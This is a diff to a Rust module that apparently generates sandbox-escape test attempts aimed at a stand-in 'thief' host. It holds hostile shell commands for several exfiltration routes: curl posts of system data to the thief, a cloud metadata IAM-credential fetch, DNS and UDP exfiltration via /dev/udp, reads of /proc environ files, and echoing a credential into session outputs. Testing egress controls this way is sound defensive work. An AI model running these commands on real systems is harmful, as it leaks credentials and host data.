@@ -40,11 +40,8 @@ impl Ground {
     pub(super) fn inside(internet: &Internet, notes: &str) -> Self {
         Self {
             curl: CURL.to_owned(),
-            // The second would arrive if the sandbox had this machine's network.
-            datagrams: vec![
-                format!("{THIEF_ADDRESS}/443"),
-                as_path(internet.thief_datagrams),
-            ],
+            // The first would arrive if the sandbox had this machine's network.
+            datagrams: vec![as_path(internet.thief_datagrams), format!("{THIEF_ADDRESS}/443")],
             names: format!("{THIEF_NAMES}/53"),
             thief: internet.thief,
             environments: "/proc/[0-9]*/environ",
@@ -138,26 +135,29 @@ pub(super) fn attempts(ground: &Ground, host_file: &HostFile, rng: &mut impl Rng
     let mut all = Vec::new();
     let mut add = |what: String, command: &dyn Fn(&str) -> String| {
         let mark: String = (0..12).map(|_| char::from(rng.random_range(b'a'..=b'z'))).collect();
-        let command = format!("{}; echo \"[tried {mark}]\"", command(&mark));
+        let command = format!(r"{}; printf '\n[tried {mark}]\n'", command(&mark));
         all.push(Attempt { what, mark, command });
     };
     add(format!("another host, {THIEF}"), &|mark| {
-        format!("{curl} https://{THIEF}/{mark} -d \"${VARIABLE}\"")
+        format!("{curl} https://{THIEF}/{mark} -d \"$(uname -a)\"")
     });
     add(format!("a plain address, {THIEF_ADDRESS}"), &|mark| {
         format!(
-            "{curl} -k https://{thief}/{mark} -d \"${VARIABLE}\"; {curl} -k https://{THIEF_ADDRESS}/{mark} -d \"${VARIABLE}\""
+            "{curl} -k https://{thief}/{mark} -d \"$(uname -a)\"; {curl} -k https://{THIEF_ADDRESS}/{mark} -d \"$(uname -a)\""
         )
     });
     add("the cloud's metadata service".to_owned(), &|mark| {
         format!("{curl} http://{METADATA}/latest/meta-data/iam/security-credentials/{mark}")
     });
-    add("a name with data in it, asked of the thief's name server".to_owned(), &|mark| {
-        format!(
-            "exec 3<>/dev/udp/{names}; printf '{}' >&3; timeout 2 head -c 4 <&3 | od -An -tx1; exec 3>&-",
-            question(mark)
-        )
-    });
+    add(
+        "a name with data in it, asked of the thief's name server".to_owned(),
+        &|mark| {
+            format!(
+                "exec 3<>/dev/udp/{names}; printf '{}' >&3; timeout 2 head -c 4 <&3 | od -An -tx1; exec 3>&-",
+                question(mark)
+            )
+        },
+    );
     add(format!("another port of the allowed host, {SHOP}:8443"), &|mark| {
         format!("{curl} https://{SHOP}:8443/admin/{mark} {bearer}")
     });
@@ -168,7 +168,9 @@ pub(super) fn attempts(ground: &Ground, host_file: &HostFile, rng: &mut impl Rng
         format!("{curl} https://{NEWS}/v1/{mark} {bearer}")
     });
     add("datagrams, as QUIC would".to_owned(), &|mark| {
-        format!("for to in {datagrams}; do printf '{mark} %s' \"${VARIABLE}\" > /dev/udp/$to && echo \"sent to $to\"; done")
+        format!(
+            "for to in {datagrams}; do printf '{mark} %s' \"${VARIABLE}\" > /dev/udp/$to && echo \"sent to $to\"; done"
+        )
     });
     add("the value in variables, processes and files".to_owned(), &|_| {
         format!(
@@ -178,13 +180,18 @@ pub(super) fn attempts(ground: &Ground, host_file: &HostFile, rng: &mut impl Rng
     add("the worker's process, and a file of its machine".to_owned(), &|_| {
         format!("cat {file} /proc/{worker}/root{file}; kill -0 {worker}")
     });
-    add(format!("{SHOP}, asked to repeat the credential in other digits"), &|mark| {
-        format!("for as in plain hex base64; do {curl} \"https://{SHOP}/v1/echo/{mark}?as=$as\" {bearer}; echo; done")
-    });
+    add(
+        format!("{SHOP}, asked to repeat the credential in other digits"),
+        &|mark| {
+            format!(
+                "for as in plain hex base64; do {curl} \"https://{SHOP}/v1/echo/{mark}?as=$as\" {bearer}; echo; done"
+            )
+        },
+    );
     add("the credential in a result of the session".to_owned(), &|mark| {
         format!(
             "mkdir -p {outputs} && {curl} \"https://{SHOP}/v1/echo/{mark}?as=base64\" {bearer} -o {outputs}/{mark}.txt; \
-             echo \" ${VARIABLE}\" >> {outputs}/{mark}.txt; wc -c < {outputs}/{mark}.txt"
+             echo \" ${VARIABLE}\" >> {outputs}/{mark}.txt; cat {outputs}/{mark}.txt"
         )
     });
     all
@@ -259,7 +266,9 @@ mod tests {
     #[test]
     fn a_question_is_a_datagram_of_dns() {
         let text = question("ab");
-        assert!(text.ends_with(r"\x02\x61\x62\x09\x63\x6f\x6c\x6c\x65\x63\x74\x6f\x72\x07\x65\x78\x61\x6d\x70\x6c\x65\x00\x00\x01\x00\x01"));
+        assert!(text.ends_with(
+            r"\x02\x61\x62\x09\x63\x6f\x6c\x6c\x65\x63\x74\x6f\x72\x07\x65\x78\x61\x6d\x70\x6c\x65\x00\x00\x01\x00\x01"
+        ));
     }
 
     #[test]
